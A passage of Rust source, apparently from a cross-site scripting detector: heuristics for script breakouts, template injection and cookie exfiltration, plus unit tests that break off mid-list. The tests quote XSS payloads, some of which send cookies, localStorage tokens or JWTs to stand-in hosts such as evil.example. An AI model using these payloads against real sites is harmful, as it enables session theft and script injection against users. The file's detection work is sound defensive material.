fn binary_operator(b: &[u8]) -> Option<usize> {
    const LONG: [&[u8]; 13] = [
        b">>>", b"===", b"!==", b"**", b"&&", b"||", b"??", b"<<", b">>", b"<=", b">=", b"==",
        b"!=",
    ];
    if let Some(op) = LONG.iter().find(|op| b.starts_with(op)) {
        // `**=`, `&&=`, `>>=`…: assignments
        return (b.get(op.len()) != Some(&b'=') || op.ends_with(b"=")).then_some(op.len());
    }
    if b.first() == Some(&b'i') {
        return keyword_operator(b);
    }
    let c = *b.first()?;
    if !matches!(
        c,
        b'+' | b'-' | b'*' | b'/' | b'%' | b'&' | b'|' | b'^' | b'<' | b'>' | b',' | b'?'
    ) {
        return None;
    }
    let next = b.get(1).copied();
    let bad = next == Some(b'=')
        || (matches!(c, b'+' | b'-') && next == Some(c))
        || (c == b'/' && matches!(next, Some(b'/' | b'*')))
        // `?.` is optional chaining, not the conditional
        || (c == b'?' && next == Some(b'.') && !b.get(2).is_some_and(u8::is_ascii_digit));
    (!bad).then_some(1)
}

/// Longest path literal examined by [`same_origin_path_literal`].
const MAX_PATH_LITERAL: usize = 256;

/// Whether `rhs` (what follows `=`) is one string literal holding a same-origin path,
/// fragment or query and nothing else follows (`location.href = '/login';`): navigating to
/// the site's own page, as application code does, runs no script. A scheme
/// (`'javascript:…'`), another host (`'//evil'`), concatenation or markup is not this.
fn same_origin_path_literal(rhs: &[u8]) -> bool {
    let a = skip_ws(rhs, 0);
    let Some(&q @ (b'\'' | b'"' | b'`')) = rhs.get(a) else {
        return false;
    };
    let body = &rhs[a + 1..rhs.len().min(a + 1 + MAX_PATH_LITERAL)];
    let Some(close) = memchr::memchr(q, body) else {
        return false;
    };
    let lit = &body[..close];
    let path = match lit {
        [b'/', b'/' | b'\\', ..] => false,
        [b'/' | b'#' | b'?', ..] => true,
        _ => false,
    };
    if !path
        || lit
            .iter()
            .any(|&c| matches!(c, b'\\' | b'<' | b'>' | b'$' | b':'))
    {
        return false;
    }
    let k = skip_ws(rhs, a + 1 + close + 1);
    if matches!(rhs.get(k), None | Some(b';' | b'\n' | b'/')) {
        return true;
    }
    // `'/login?next=' + encodeURIComponent(path)`: what is appended to a path that already
    // names a page of the site (a letter or digit after its `/`), or to a query or
    // fragment, cannot change the scheme or host
    rhs.get(k) == Some(&b'+')
        && rhs.get(k + 1) != Some(&b'+')
        && match lit {
            [b'/', c, ..] => c.is_ascii_alphanumeric(),
            [b'#' | b'?', ..] => true,
            _ => false,
        }
}

/// Code punctuation around a sink: `;`, braces, a backtick, `[`, `=`, or `)(`. The single
/// bytes are read from the classes `m` of `b`, found in the pass every value gets.
fn code_punctuation(b: &[u8], m: u32) -> bool {
    m & super::class::CODE != 0 || super::has_pair(b, b')', b'(') || call_then_line_comment(b)
}

/// `jQuery1234_567(alert(1))//`: a call closed and followed by a line comment that runs to
/// the end of the value (or to a blank and a remark) is a script line: a JSONP endpoint
/// writes the callback name before `(data)`, and the `//` discards the rest of the line
/// the page appends. Prose does not glue `//` to a closing parenthesis; a URL glues a
/// host to it (`(x)//host`).
fn call_then_line_comment(b: &[u8]) -> bool {
    let t = b.trim_ascii_end();
    memchr::memmem::rfind(t, b")//").is_some_and(|p| {
        let rest = &t[p + 3..];
        (rest.is_empty() || rest[0] == b' ') && !rest.contains(&b'\n')
    })
}

/// Keywords that JavaScript lets stand right before another word (`new Image`, `typeof x`,
/// `x in y`); any other two words side by side are not code.
fn joins_words(w: &[u8]) -> bool {
    matches!(
        w,
        b"new"
            | b"typeof"
            | b"void"
            | b"delete"
            | b"await"
            | b"yield"
            | b"in"
            | b"instanceof"
            | b"of"
            | b"function"
            | b"async"
            | b"return"
            | b"throw"
            | b"var"
            | b"let"
            | b"const"
    )
}

/// Whether the "call" whose argument list starts at `args[0] == '('` is prose, not code:
/// two words side by side outside strings (`confirm(your attendance)`), or a word right
/// after the closing parenthesis on the same line (`eval(expression) evaluates …`).
/// JavaScript only juxtaposes words around a few keywords, and a payload's call is followed
/// by an operator, separator, comment or the end.
fn prose_call(args: &[u8]) -> bool {
    let end = args.len().min(MAX_ARGS_SCAN);
    let mut k = 1;
    let mut depth = 1usize;
    let mut prev_word: Option<(usize, usize)> = None;
    while k < end {
        let c = args[k];
        if matches!(c, b'\'' | b'"' | b'`') {
            // skip a string literal; an unterminated one is not prose we can judge
            match memchr::memchr(c, &args[k + 1..end]) {
                Some(q) => k += q + 2,
                None => return false,
            }
            prev_word = None;
            continue;
        }
        if is_ident_start(c) {
            let st = k;
            while k < end && is_ident(args[k]) {
                k += 1;
            }
            if let Some((ps, pe)) = prev_word {
                if !joins_words(&args[ps..pe]) && !joins_words(&args[st..k]) {
                    return true;
                }
            }
            prev_word = Some((st, k));
            continue;
        }
        match c {
            b' ' | b'\t' => {}
            b'(' => {
                depth += 1;
                prev_word = None;
            }
            b')' => {
                depth -= 1;
                prev_word = None;
                if depth == 0 {
                    let at = k + 1;
                    let mut j = skip_blanks(args, at);
                    // `alert("hi") — she wrote`: a typographic dash, quote or ellipsis is
                    // no JavaScript token (nor space nor line end, unlike U+2028), so the
                    // line does not parse and nothing in it runs; a sentence quoting the call
                    if typographic_punctuation(&args[j.min(args.len())..]) {
                        return true;
                    }
                    // `alert() 関数の使い方`, `eval() 为什么不安全`: a letter of another script
                    // after the call and a blank starts an identifier no operator joins to
                    // the call (a letter is neither a space nor a line terminator), so the
                    // line does not parse either
                    if j > at && j < args.len() && args[j] >= 0x80 && letter_at(args, j) {
                        return true;
                    }
                    if j == at || j >= args.len() || !args[j].is_ascii_alphabetic() {
                        return false;
                    }
                    let ws = j;
                    while j < args.len() && is_ident(args[j]) {
                        j += 1;
                    }
                    return !joins_words(&args[ws..j]);
                }
            }
            _ => prev_word = None,
        }
        k += 1;
    }
    false
}

/// Whether the character starting at `b[i]` (a lead byte outside ASCII) is a letter.
fn letter_at(b: &[u8], i: usize) -> bool {
    crate::normalize::char_at(b, i).is_some_and(char::is_alphabetic)
}

/// Whether `b` starts with a typographic dash, quote or ellipsis (U+2013–U+2015, U+2018,
/// U+2019, U+201C, U+201D, U+2026): punctuation of prose that JavaScript reads as neither
/// an identifier, a space nor a line terminator, so a script holding it there fails.
fn typographic_punctuation(b: &[u8]) -> bool {
    matches!(
        b,
        [
            0xe2,
            0x80,
            0x93..=0x95 | 0x98 | 0x99 | 0x9c | 0x9d | 0xa6,
            ..
        ]
    )
}

/// Symbols counted before a bracket-only run counts as script.
const MIN_BRACKET_SCRIPT: usize = 12;

/// Script written only with `[]()!+` (spaces allowed where a form decoded `+`): the atoms
/// `![]` / `+[]` make booleans and numbers, indexing `)[` / `][` pulls letters out of them.
/// Prose and markdown never build a run of these symbols that both negates or coerces an
/// empty array and indexes the result.
pub fn bracket_only_script(s: &str) -> bool {
    let b = s.as_bytes();
    // the shape below needs `![]` or `+[]` in a run with its spaces removed, so an empty
    // pair `[` `]` with at most spaces between: a value without one (most values with a
    // `[`: `[1]`, `[link]`) leaves before the walk over every byte
    if !empty_brackets(b) {
        return false;
    }
    let mut i = 0;
    while i < b.len() {
        if !matches!(b[i], b'[' | b'(' | b'!' | b'+') {
            i += 1;
            continue;
        }
        // one run of symbols and spaces; spaces are removed for the shape checks
        let mut run: Vec<u8> = Vec::new();
        while i < b.len() && matches!(b[i], b'[' | b']' | b'(' | b')' | b'!' | b'+' | b' ') {
            if b[i] != b' ' {
                run.push(b[i]);
            }
            i += 1;
        }
        if run.len() >= MIN_BRACKET_SCRIPT {
            let has = |n: &[u8]| memchr::memmem::find(&run, n).is_some();
            if (has(b"![]") || has(b"+[]")) && (has(b")[") || has(b"][")) {
                return true;
            }
        }
    }
    false
}

/// Whether `b` holds `[` and then `]` with nothing but spaces between (`[]`, `[ ]`).
fn empty_brackets(b: &[u8]) -> bool {
    memchr::memchr_iter(b'[', b).any(|p| {
        b[p + 1..]
            .iter()
            .find(|&&c| c != b' ')
            .is_some_and(|&c| c == b']')
    })
}

/// Objects that expose the whole browser API; indexing one with a computed name is how
/// payloads reach a sink without writing its name (`self["al"+"ert"]`, `top[x](1)`,
/// `(document)["cookie"]`).
fn global_object(name: &[u8]) -> bool {
    let mut buf = [0u8; 10];
    if name.len() > buf.len() {
        return false;
    }
    for (d, c) in buf.iter_mut().zip(name) {
        *d = c.to_ascii_lowercase();
    }
    matches!(
        &buf[..name.len()],
        b"self"
            | b"window"
            | b"top"
            | b"parent"
            | b"frames"
            | b"globalthis"
            | b"document"
            | b"content"
    )
}

/// A global object (optionally parenthesised) indexed by a string literal or an identifier
/// that is then called: `self["\x24"]`, `(document)["cookie"]`, `content[y](123)`.
pub fn global_index(s: &str) -> bool {
    let b = s.as_bytes();
    let mut i = 0;
    while let Some(p) = memchr::memchr(b'[', &b[i..]) {
        let open = i + p;
        i = open + 1;
        // the object before `[`: `name` or `(name)`
        let mut e = open;
        while e > 0 && b[e - 1] == b' ' {
            e -= 1;
        }
        let paren = e > 0 && b[e - 1] == b')';
        if paren {
            e -= 1;
        }
        let mut st = e;
        while st > 0 && is_ident(b[st - 1]) && e - st < 12 {
            st -= 1;
        }
        if st == e || !global_object(&b[st..e]) {
            continue;
        }
        if st > 0 && (is_ident(b[st - 1]) || b[st - 1] == b'.') {
            continue;
        }
        if paren && (st == 0 || b[st - 1] != b'(') {
            continue;
        }
        let inner = skip_ws(b, open + 1);
        match b.get(inner) {
            // a quoted member name: `self["x"]`
            Some(&q @ (b'"' | b'\'' | b'`')) if b[inner + 1..].iter().take(64).any(|&c| c == q) => {
                return true;
            }
            // a variable member name, then called: `top[x](1)`
            Some(&c) if is_ident_start(c) => {
                let mut k = inner;
                while k < b.len() && is_ident(b[k]) && k - inner < 40 {
                    k += 1;
                }
                let mut k = skip_ws(b, k);
                // or a name built by concatenating variables (`window[a+b](1)` after
                // `a='al',b='ert'`): the sink's name is split so no part of it is written
                for _ in 0..8 {
                    if b.get(k) != Some(&b'+') {
                        break;
                    }
                    let n = skip_ws(b, k + 1);
                    let mut e = n;
                    while e < b.len() && is_ident(b[e]) && e - n < 40 {
                        e += 1;
                    }
                    if e == n {
                        break;
                    }
                    k = skip_ws(b, e);
                }
                if b.get(k) == Some(&b']') && matches!(b.get(k + 1), Some(b'(' | b'`')) {
                    return true;
                }
            }
            _ => {}
        }
    }
    false
}

/// `with(document)…`: a `with` statement over a browser global followed by code puts the
/// whole API in scope (`with(document)body.appendChild(…)`, `with(location)with(hash)…`).
pub fn with_global(s: &str) -> bool {
    let b = s.as_bytes();
    memchr::memmem::find_iter(b, b"with").take(16).any(|p| {
        if p > 0 && is_ident(b[p - 1]) {
            return false;
        }
        let o = skip_ws(b, p + 4);
        if b.get(o) != Some(&b'(') {
            return false;
        }
        let n = skip_ws(b, o + 1);
        let mut e = n;
        while e < b.len() && is_ident(b[e]) && e - n < 12 {
            e += 1;
        }
        let c = skip_ws(b, e);
        if e == n || !root_global(&b[n..e]) || b.get(c) != Some(&b')') {
            return false;
        }
        // then a block, or code: an identifier used as a call, member or assignment
        let k = skip_ws(b, c + 1);
        if b.get(k) == Some(&b'{') {
            return true;
        }
        let mut m = k;
        while m < b.len() && is_ident(b[m]) && m - k < 40 {
            m += 1;
        }
        m > k && matches!(b.get(skip_ws(b, m)), Some(b'.' | b'(' | b'=' | b'['))
    })
}

/// A comment placed inside a member chain on a browser global (`document/**/.cookie`,
/// `window /*x*/ [ … ]`): hiding the chain's shape from filters is the only reason to write
/// one there.
pub fn commented_member(s: &str) -> bool {
    let b = s.as_bytes();
    let mut from = 0;
    for _ in 0..32 {
        let Some(p) = memchr::memmem::find(&b[from..], b"/*") else {
            return false;
        };
        let open = from + p;
        let close = match memchr::memmem::find(&b[open + 2..], b"*/") {
            Some(q) => open + 2 + q + 2,
            None => return false,
        };
        from = close;
        let before = b[..open].iter().rposition(|c| !c.is_ascii_whitespace());
        let after = skip_ws(b, close);
        let (Some(bp), Some(&ac)) = (before, b.get(after)) else {
            continue;
        };
        // the global sits right before the comment and a member access follows it
        if matches!(ac, b'.' | b'[') || (ac == b')' && b.get(skip_ws(b, after + 1)) == Some(&b'['))
        {
            let mut st = bp + 1;
            while st > 0 && is_ident(b[st - 1]) && bp + 1 - st < 12 {
                st -= 1;
            }
            if global_object(&b[st..bp + 1]) {
                return true;
            }
        }
    }
    false
}

/// `{{ … }}` template expression reaching code: a call, the `constructor` chain, or `$eval`.
pub fn template_injection(s: &str) -> bool {
    let b = s.as_bytes();
    let Some(open) = memchr::memmem::find(b, b"{{") else {
        return false;
    };
    let body_end = memchr::memmem::find(&b[open..], b"}}").map_or(b.len(), |p| open + p);
    let body = &b[open + 2..body_end];
    let lower: Vec<u8> = body.iter().take(512).map(u8::to_ascii_lowercase).collect();
    let has = |n: &[u8]| memchr::memmem::find(&lower, n).is_some();
    has(b"constructor")
        || has(b"$eval")
        || has(b"$on")
        || has(b"alert(")
        || has(b"__proto__")
        || (has(b"(")
            && (has(b"tostring")
                || has(b"charat")
                || has(b"fromcharcode")
                || has(b"window")
                || has(b"document")))
}

/// `{{7*7}}`, `{{ 1337*2 }}`, `{{7*'7'}}`: the template-injection probe, the whole value a
/// template expression that multiplies (or adds…) two integers. A page that renders the value
/// as an AngularJS / Vue template (or a server template) shows `49` instead of the text, and
/// the scanner has found where `{{constructor.constructor('…')()}}` will run. A form field's
/// ordinary value never is one: a template writer's `{{ name }}` holds no arithmetic of
/// constants, and prose about templates has words around the braces.
pub fn template_probe(s: &str) -> bool {
    let t = s.trim_ascii().as_bytes();
    let Some(body) = t
        .strip_prefix(b"{{")
        .and_then(|r| r.strip_suffix(b"}}"))
        .filter(|b| b.len() <= 32)
    else {
        return false;
    };
    let Some(op) = body
        .iter()
        .position(|c| matches!(c, b'*' | b'+' | b'-' | b'/' | b'%'))
    else {
        return false;
    };
    integer_operand(&body[..op]) && integer_operand(&body[op + 1..])
}

/// An integer of [`template_probe`], blanks around it, optionally quoted (`'7'`: Jinja
/// repeats the string where Twig multiplies, which tells the engines apart).
fn integer_operand(b: &[u8]) -> bool {
    let b = b.trim_ascii();
    let b = match b {
        [q @ (b'\'' | b'"'), inner @ .., e] if q == e => inner,
        _ => b,
    };
    !b.is_empty() && b.len() <= 8 && b.iter().all(u8::is_ascii_digit)
}

/// Longest string literal read back from a `+` before `document.cookie`.
const MAX_URL_LITERAL: usize = 256;

/// `'//evil.example/?c='+document.cookie`, `"https://x/"+escape(document.cookie)`: a URL
/// built from the page's cookies. Whatever then loads it (an image, `XMLHttpRequest.open`,
/// a redirect) sends the session to that host; a page that reads its own cookies parses
/// them (`'; ' + document.cookie`) and builds no URL of them.
pub fn cookie_to_url(s: &str) -> bool {
    let b = s.as_bytes();
    let mut seen = 0;
    for p in memchr::memchr_iter(b'.', b) {
        if seen >= 16 {
            break;
        }
        if !(p >= 8
            && b.len() - (p - 8) >= COOKIE.len()
            && &b[p - 8..p - 8 + COOKIE.len()] == COOKIE)
        {
            continue;
        }
        seen += 1;
        // one wrapping call (`escape(`, `btoa(`, `encodeURIComponent(`) may stand between
        let mut i = p - 8;
        i = b[..i].trim_ascii_end().len();
        if i > 0 && b[i - 1] == b'(' {
            let mut j = i - 1;
            let name_end = j;
            while j > 0 && is_ident(b[j - 1]) && name_end - j < 24 {
                j -= 1;
            }
            if j == name_end {
                continue;
            }
            i = b[..j].trim_ascii_end().len();
        }
        if i == 0 || b[i - 1] != b'+' {
            continue;
        }
        i = b[..i - 1].trim_ascii_end().len();
        let Some(&q) = b[..i].last() else { continue };
        if !matches!(q, b'\'' | b'"' | b'`') {
            continue;
        }
        let lo = (i - 1).saturating_sub(MAX_URL_LITERAL);
        let Some(open) = memchr::memrchr(q, &b[lo..i - 1]).map(|o| lo + o) else {
            continue;
        };
        let lit = &b[open + 1..i - 1];
        let starts =
            |pfx: &[u8]| lit.len() > pfx.len() && lit[..pfx.len()].eq_ignore_ascii_case(pfx);
        if (lit.starts_with(b"//") && lit.get(2).is_some_and(u8::is_ascii_alphanumeric))
            || starts(b"http://")
            || starts(b"https://")
        {
            return true;
        }
    }
    false
}

/// Longest template body read after ``Function` ``.
const MAX_TEMPLATE_BODY: usize = 256;

/// ``new Function`alert\`1\``` ``, ``Function`alert\x281\x29```: the `Function`
/// constructor called as a template tag compiles the template's text, and `new` (or a
/// second template) runs it: a call with no parenthesis for filters that look for one.
/// The text must call or pass a sink. Inline code in prose (``the `Function` constructor``)
/// has the backtick before the name, not a template after it. A tag receives each `${…}`
/// substitution as an argument after the strings, and `Function` compiles its last argument
/// as the body (``Function`a${`alert(1)`}``` ``): a substitution's code, or the text of the
/// string literal it holds, is read as the body too.
pub fn function_template(s: &str) -> bool {
    let b = s.as_bytes();
    for p in memchr::memmem::find_iter(b, b"Function`").take(8) {
        if p > 0 && (is_ident(b[p - 1]) || matches!(b[p - 1], b'`' | b'.')) {
            continue;
        }
        let body_start = p + 9;
        let mut body = Vec::with_capacity(64);
        let mut subs: Vec<&[u8]> = Vec::new();
        let mut i = body_start;
        let mut closed = false;
        while i < b.len() && i - body_start < MAX_TEMPLATE_BODY {
            match b[i] {
                b'\\' if i + 1 < b.len() => {
                    body.push(b[i + 1]);
                    i += 2;
                }
                b'$' if b.get(i + 1) == Some(&b'{') => {
                    let Some(end) = substitution_end(b, i + 2, body_start + MAX_TEMPLATE_BODY)
                    else {
                        break;
                    };
                    subs.push(literal_text(b[i + 2..end].trim_ascii()));
                    i = end + 1;
                }
                b'`' => {
                    closed = true;
                    break;
                }
                c => {
                    body.push(c);
                    i += 1;
                }
            }
        }
        if closed && (code_mentions_sink(&body) || subs.iter().any(|sub| code_mentions_sink(sub))) {
            return true;
        }
    }
    false
}

/// Offset of the `}` that closes a template substitution whose expression starts at `from`
/// (after `${`), reading no further than `limit`: braces nest, and quotes and backticks
/// hold text whose braces do not count (a nested template's own `${` is read as text).
fn substitution_end(b: &[u8], from: usize, limit: usize) -> Option<usize> {
    let (mut depth, mut quote, mut i) = (0usize, 0u8, from);
    while i < b.len().min(limit) {
        let c = b[i];
        if c == b'\\' {
            i += 2;
            continue;
        }
        if quote != 0 {
            if c == quote {
                quote = 0;
            }
        } else {
            match c {
                b'"' | b'\'' | b'`' => quote = c,
                b'{' => depth += 1,
                b'}' if depth == 0 => return Some(i),
                b'}' => depth -= 1,
                _ => {}
            }
        }
        i += 1;
    }
    None
}

/// The text of a string or template literal that is a whole expression (`` `alert(1)` ``,
/// `'alert(1)'`), as the tag receives it; any other expression as written.
fn literal_text(e: &[u8]) -> &[u8] {
    match e {
        [q @ (b'"' | b'\'' | b'`'), mid @ .., z] if z == q && !mid.contains(q) => mid,
        _ => e,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_naming_a_direct_sink_are_searched_for() {
        // every run `direct_sink` accepts is found by the search, whatever surrounds it
        let parts: Vec<String> = DIRECT_SPELLINGS
            .iter()
            .map(|w| String::from_utf8_lossy(w).into_owned())
            .chain(
                [
                    "MsgBox", "MSGBOX", "msgBOX", "Alert", "EVAL", "x", " ", "(", "${", "1", "_",
                ]
                .map(String::from),
            )
            .collect();
        let mut next = crate::lcg(0x9e37_79b9_7f4a_7c15);
        let mut named = 0;
        for _ in 0..20_000 {
            let v: String = (0..1 + next(4))
                .map(|_| parts[next(parts.len())].as_str())
                .collect();
            let b = v.as_bytes();
            if direct_sink_runs(b).next().is_some() {
                named += 1;
                assert!(may_name_direct_sink(b), "{v}");
            }
            // and the scan with the search first notes what it notes without it
            let (f, all) = (FoundSinks::scan(b), FoundSinks::scan_runs(b));
            assert_eq!(f.any, all.any, "{v}");
            assert_eq!(f.starts.overflow, all.starts.overflow, "{v}");
            assert_eq!(
                f.starts.at[..f.starts.len],
                all.starts.at[..all.starts.len],
                "{v}"
            );
            let mut sinks = Sinks::new();
            assert!(sinks.may_any(b) || !all.any, "{v}");
            assert_eq!(sinks.any(b), all.any, "{v}");
        }
        assert!(named > 5_000, "{named}");
        // each spelling holds its word
        for (w, part) in DIRECT_SPELLINGS
            .iter()
            .filter(|w| **w != b"msgbox")
            .zip(SINK_WORDS)
        {
            assert!(memchr::memmem::find(w, part.as_bytes()).is_some(), "{part}");
        }
        for v in ["MsgBox", "MSGBOX", "msgbox", "mSgBoX"] {
            assert!(may_name_direct_sink(v.as_bytes()), "{v}");
        }
    }

    fn string_breakout(s: &str) -> bool {
        super::string_breakout(
            s,
            super::super::classes(s.as_bytes()),
            &mut Sinks::new(),
            None,
        )
    }

    fn sink_call(s: &str) -> bool {
        super::sink_call(s, super::super::classes(s.as_bytes()), &mut Sinks::new())
    }

    #[test]
    fn no_optional_chain_found_means_the_rewrite_is_the_head() {
        for v in [
            "window?.alert?.(1)",
            "top?.['alert'](1)",
            "a?.5:1",
            "x ? .y : z",
            "cond?.(",
            "end?.",
            "end?",
            "?.",
            "a?b:c; d?.e",
            "no question here at all",
            "",
        ] {
            let b = v.as_bytes();
            let head = &b[..b.len().min(MAX_OPTIONAL_CHAIN)];
            let same = without_optional_chaining(b) == head;
            assert_eq!(first_optional_chain(head).is_none(), same, "{v:?}");
        }
    }

    #[test]
    fn delimiters_end_at_the_last_quote() {
        // the pairs found in a value are those found in it up to its last quote
        for v in [
            "<a href=\"x\" title='y'>t</a><b>more</b> <i>text</i>",
            "<p class=\"k\">it's</p><br>",
            "<x a=\"1\" b='2' c=\"3<\" d=\"4\">tail <y e=f>",
            "<x a=\"unclosed>tail",
            "no tags 'here'",
        ] {
            let b = v.as_bytes();
            let last = memchr::memrchr2(b'"', b'\'', b).map_or(0, |p| p + 1);
            let (mut full, mut cut) = ([0usize; MAX_DELIMITERS], [0usize; MAX_DELIMITERS]);
            let (mut qf, mut qc) = (0u128, 0u128);
            let n = attribute_delimiters(b, &mut full, &mut qf);
            let k = attribute_delimiters(&b[..last], &mut cut, &mut qc);
            assert_eq!((&full[..n], qf), (&cut[..k], qc), "{v}");
        }
    }

    #[test]
    fn template_text_carried_left_to_right() {
        // the plain definition: odd backticks before `st`, no `${` after the last one
        let plain = |b: &[u8], st: usize| {
            let before = &b[..st];
            memchr::memrchr(b'`', before).is_some_and(|last| {
                memchr::memchr_iter(b'`', before).count() % 2 == 1
                    && !super::super::has_pair(&before[last..], b'$', b'{')
            })
        };
        for v in [
            "Run with `node --eval` and `${alert(1)}` then `x` alert",
            "``a`${b}`{c}`$`{d}`",
            "no ticks { } ${ }",
            "`${`${`a`}`}`",
        ] {
            let b = v.as_bytes();
            let mut t = TemplateText::new();
            for st in 0..=b.len() {
                assert_eq!(t.holds(b, st), plain(b, st), "{v:?} at {st}");
            }
        }
    }

    #[test]
    fn inline_code_in_prose_is_no_script() {
        // a flag shown as inline code: in a template the literal would be decremented
        for v in [
            "Use `--print` to see it",
            "Pass `--open` to launch a browser tab",
            "Flags: `--alert`, `++confirm`",
        ] {
            assert!(!string_breakout(v), "{v}");
        }
        // a name in backticks is template text, or follows a template with no operator
        for v in [
            "The `alert` function is blocked in iframes",
            "you can use `require` or `import`",
            "Use `setTimeout` or `setInterval` for polling",
            "Run with `--eval` for a one-liner;",
        ] {
            assert!(!sink_call(v), "{v}");
        }
        // a substitution in a template runs; so does a call after a closed template
        assert!(sink_call("`${alert(1)}`"));
        assert!(sink_call("${location=name}"));
        assert!(sink_call("${x.innerHTML=name}"));
        assert!(sink_call("${location.assign(name)}"));
        assert!(!sink_call("Total: ${price} USD"));
        assert!(!sink_call("Hello ${user.name}, see ${document.title}"));
        assert!(sink_call("x=`a`;alert`1`"));
        // breaks that run: one operator, a line break before `--`, a closer, a tag call
        for v in [
            "`-alert(1)-`",
            "'-print`1`-'",
            "';\n--alert(1)//",
            "'\n--alert(1)//",
            "`;alert(1)//",
            "x`)--alert(1)//",
        ] {
            assert!(string_breakout(v), "{v}");
        }
        // prose around a named sink on its line is a SyntaxError, whatever code is nearby
        for v in [
            "Notice that code passed to exec() or eval() does not {see} it;",
            "same behavior as eval() and\n{\"None\": None};",
        ] {
            assert!(!sink_call(v), "{v}");
        }
        // a statement after a line break, a closed comment, an attribute, joined keywords
        for v in [
            "some words here;\nalert(1)",
            "old words */ alert(1);",
            "x onerror=alert(1);",
            "else alert(1);",
            "a=1;alert`1`",
        ] {
            assert!(sink_call(v), "{v}");
        }
        assert!(sink_call("alert`1`"));
        assert!(sink_call("x=1;alert`1`"));
        assert!(sink_call("[1].map(alert)"));
    }

    #[test]
    fn sinks_that_code_could_act_on() {
        let starts = |v: &str| {
            let f = FoundSinks::scan(v.as_bytes());
            let mut at = f.starts.at[..f.starts.len].to_vec();
            at.sort_unstable();
            (f.any, at)
        };
        assert_eq!(starts("x=alert;y=eval(1)"), (true, vec![2, 10]));
        assert_eq!(starts("[1].find(prompt),alert`1`"), (true, vec![9, 17]));
        assert_eq!(starts("alert?.(1) (confirm)"), (true, vec![0, 12]));
        // words, not sinks the rules could act on
        assert_eq!(starts("alert me, eval it; an alert."), (false, vec![]));
        assert_eq!(
            starts("x9alert(1) alertx(1) _alert(1) setintervalx(1)"),
            (false, vec![])
        );
        assert_eq!(starts("9alert(1)"), (false, vec![]));
        // a template substitution passes a sink with nothing after it
        assert_eq!(starts("`${ alert }`"), (true, vec![4]));
        assert_eq!(starts(""), (false, vec![]));
    }

    #[test]
    fn sink_marks_overflow_into_maybe() {
        let v = "alert(1);".repeat(MAX_MARKS + 1);
        let f = FoundSinks::scan(v.as_bytes());
        assert!(f.any && f.starts.any_in(0, 1) && f.starts.any_in(3, 4));
    }

    #[test]
    fn breakouts() {
        assert!(string_breakout("';alert(1);//"));
        assert!(string_breakout("\\\";alert(1)//"));
        assert!(string_breakout("'-alert(1)-'"));
        assert!(string_breakout("\"+alert(document.cookie)+\""));
        assert!(string_breakout("');top['al'+'ert'](1);//"));
        assert!(!string_breakout("it's fine; alert me later"));
        assert!(!string_breakout("\"quoted\" - open (24h)"));
        assert!(string_breakout("'in alert(1) in'"));
        assert!(string_breakout("'-[].at.constructor(name)()-'"));
        assert!(string_breakout("'-name.constructor.constructor(name)()-'"));
        assert!(!string_breakout("'-obj.constructor(name)-'"));
        assert!(string_breakout("'instanceof alert(1) instanceof'"));
        assert!(!string_breakout("'Tom' in alert mode (1) today"));
        assert!(!string_breakout("the 'inline' alert(1) example"));
        // web storage holds session tokens as the cookie does
        assert!(string_breakout(
            "';new Image().src='//evil.example/?'+localStorage.token;//"
        ));
        assert!(string_breakout(
            "\";fetch('https://x.example/'+sessionStorage.getItem('jwt'))//"
        ));
        assert!(!string_breakout("it's kept in localStorage; see the docs"));
        assert!(!string_breakout(
            "'localStorage' vs 'sessionStorage' explained"
        ));
    }

    #[test]
    fn line_terminator_ends_the_statement_after_a_string() {
        // automatic semicolon insertion: each line terminator ends the page's statement
        assert!(string_breakout("'\nalert(1)//"));
        assert!(string_breakout("\"\nalert(1)//"));
        assert!(string_breakout("'\ralert(1)//"));
        assert!(string_breakout("'\u{2028}alert(1)//"));
        assert!(string_breakout("'\u{2029}alert(document.domain)//"));
        assert!(string_breakout(
            "x' \r\n  document.location='//evil.example/?'+document.cookie//"
        ));
        // look-alikes: an apostrophe inside a word, the second quote of a pair, a line that
        // calls nothing, a name that is no sink
        assert!(!string_breakout("It's late\nalert me tomorrow"));
        assert!(!string_breakout("it's\nalert(1) in the docs"));
        assert!(!string_breakout("x = 'abc'\nalert(x)"));
        assert!(!string_breakout("He said '\nsee you (later)"));
        assert!(!string_breakout("the students'\nresults (2024)"));
        assert!(!string_breakout("'\nconsole.log(1)"));
        assert!(string_breakout("`\nalert(1)//"));
        assert!(!string_breakout(
            "```\nconstructor(headers?: RawAxiosHeaders);\n```"
        ));
    }

    #[test]
    fn breakouts_after_markup_with_attributes() {
        // the values of the value's own tags are passed over whole when they hold no quote
        assert!(string_breakout("<b class=\"k\" id='x'>a</b>';alert(1);//"));
        assert!(!string_breakout("<b class=\"k\" id='x'>it's</b>"));
        // a quote inside an attribute value is still counted: it pairs with the next one
        assert!(!string_breakout("<b title=\"it's\">';alert(1);//"));
        assert!(!string_breakout("<b title=\"a`b\">`;alert(1);//"));
        // as in a long value, which is not looked through for quotes
        let long = "a".repeat(NEAR + 1);
        assert!(!string_breakout(&format!(
            "<b title=\"{long}'\">';alert(1);//"
        )));
        assert!(string_breakout(&format!(
            "<b title=\"{long}\">';alert(1);//"
        )));
    }

    #[test]
    fn quote_free_values_are_marked() {
        let mut out = [0usize; MAX_DELIMITERS];
        let mut free = 0u128;
        let v = b"<a href=\"#x\" title='it\"s' data-x=\"<b>\" class=\"q\">";
        let n = attribute_delimiters(v, &mut out, &mut free);
        // `data-x` holds markup and is no delimiter pair
        assert_eq!(n, 6);
        assert_eq!(free, 0b101);
    }

    #[test]
    fn sinks_called_with_page_variables() {
        for v in [
            "confirm(order)",
            "setTimeout(fn, 1000)",
            "eval(expression) in math",
            "setTimeout(fn, 1000);",
            "alert(message)",
            "  prompt(question)",
        ] {
            assert!(!sink_call(v), "{v}");
        }
        for v in [
            "eval(name)",
            "setTimeout(name)",
            "alert(document.domain)",
            "eval(location.hash.slice(1))",
            "alert(1)",
            "confirm(1)",
            "alert(origin)",
            "alert(cookie)",
            "alert(XSS)",
            "setTimeout(alert)",
            "alert(true)",
            "confirm(order)-alert(1)",
            "confirm(order);alert(1)",
            "\";confirm(order)//",
            "x=1;alert(x)",
            "onerror=alert(src)",
        ] {
            assert!(sink_call(v), "{v}");
        }
    }

    #[test]
    fn sinks_handed_to_invoking_methods() {
        for v in [
            "{{ [1].reduce(value.alert, 1); }}",
            "[1].reduce(alert,1)",
            "[1].map(w.alert)",
            "x=[1].reduce(alert, 1)",
            "{{[1].some(a.b.confirm)}}",
        ] {
            assert!(sink_call(v), "{v}");
        }
        for v in [
            "{{ [1].reduce(value.total, 1); }}",
            "logger.alert(msg, 1)",
            "{{ items.map(formatPrice) }}",
